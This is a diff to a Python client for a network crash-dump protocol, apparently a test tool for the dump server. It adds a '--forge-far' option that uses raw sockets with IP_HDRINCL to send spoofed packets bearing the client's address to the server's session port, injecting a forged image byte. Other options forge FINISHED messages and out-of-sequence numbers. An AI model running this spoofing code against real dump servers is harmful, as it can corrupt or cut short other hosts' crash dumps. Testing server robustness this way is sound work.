@@ -198,14 +198,15 @@ class Client:
 
 # ------------------------------------------------------------------ dump
 
-def forge_finished(a, c):
+def forge_finished(a, c, body):
     """With --forge-finished: a before() hook that, before the second
     call, sends a KDH and a FINISHED forged (IP_HDRINCL) from the
     client's own address and port to its session's port, as anyone can
     (the port is found by trying them all); with --forge-seqno, messages
-    numbered far ahead and a FINISHED numbered next after them. None
-    without either."""
-    if not a.forge_finished and not a.forge_seqno:
+    numbered far ahead and a FINISHED numbered next after them; with
+    --forge-far OFF, the image's byte at OFF. None without any."""
+    if (not a.forge_finished and not a.forge_seqno
+            and a.forge_far is None):
         return None
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
@@ -216,7 +217,16 @@ def forge_finished(a, c):
         calls[0] += 1
         if calls[0] == 1:
             first.append(pkts[0])
-        if calls[0] == 2 and a.forge_seqno:
+        if calls[0] == 2 and a.forge_far is not None:
+            # One byte far ahead, the very byte the client will send
+            # there (no conflict to see), numbered in the client's call.
+            off = a.forge_far
+            raw.sendto(forged(c.addr, CLIENT_PORT, SERVER, c.sport,
+                              msg(VMCORE, pkts[0][0], off,
+                                  body[off:off + 1])), (SERVER, 0))
+            time.sleep(0.2)
+            note("forged one byte at %d to port %d" % (off, c.sport))
+        elif calls[0] == 2 and a.forge_seqno:
             # The forger picks the numbers: a VMCORE the server drops
             # (beyond max_dump_size), a copy of the client's first
             # packet (the same bytes: taken), then FINISHED numbered
@@ -301,7 +311,7 @@ def cmd_dump(a):
         for off in late:
             c.call(VMCORE, body[off:off + CALL], off, skip(off))
     elif not a.no_data:
-        c.dump(body, skip=skip, before=forge_finished(a, c))
+        c.dump(body, skip=skip, before=forge_finished(a, c, body))
     if not a.no_kdh:
         dl = a.dumplength if a.dumplength is not None else a.size
         c.call(KDH, kdh(dl, a.keysize, compression=a.compression))
@@ -946,6 +956,8 @@ def main():
     d.add_argument("--no-finished", action="store_true")
     d.add_argument("--forge-finished", action="store_true",
                    help="forge a FINISHED from the client before call 2")
+    d.add_argument("--forge-far", type=int, metavar="OFF",
+                   help="before call 2, forge the image's byte at OFF")
     d.add_argument("--forge-seqno", action="store_true",
                    help="before call 2, forge messages numbered far ahead "
                    "and a FINISHED numbered next after them")
